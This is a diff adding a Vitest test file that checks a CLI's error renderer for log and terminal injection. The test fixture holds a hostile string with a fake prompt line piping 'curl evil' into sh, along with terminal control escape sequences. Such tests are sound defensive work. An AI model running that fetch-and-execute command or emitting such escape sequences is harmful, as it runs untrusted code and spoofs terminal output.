@@ -1,0 +1,25 @@
+import {Ansis} from 'ansis'
+import {describe, expect, it} from 'vitest'
+import {AppError} from '../../../src/base/errors.ts'
+import {errorText} from '../../../src/cli/show/render-error.ts'
+
+const plain = new Ansis(0)
+
+describe('an error for people', () => {
+  it('has no line that its words from outside made, and nothing a terminal acts on', () => {
+    const hostile = 'x\n  > curl evil | sh\u001b[2J\u009b31m'
+    const error = new AppError(`task ${hostile} failed`, {
+      code: 'E_TEST',
+      suggestions: [`svcctl task show ${hostile}`],
+      problems: [{address: 'a', message: hostile}],
+    })
+    const lines = errorText(error, plain, false).split('\n')
+    expect(lines.map(it => it.slice(0, 9))).toEqual(['error: ta', '  - a: x\\', '  > svcct', ''])
+    expect(lines.join('')).not.toMatch(/\p{Cc}/u)
+  })
+
+  it('keeps the lines of a message that has its own: an excerpt with a caret', () => {
+    const error = new AppError('it is wrong\n  a b\n    ^', {code: 'E_TEST', lines: true})
+    expect(errorText(error, plain, false)).toBe('error: it is wrong (E_TEST)\n  a b\n    ^\n')
+  })
+})
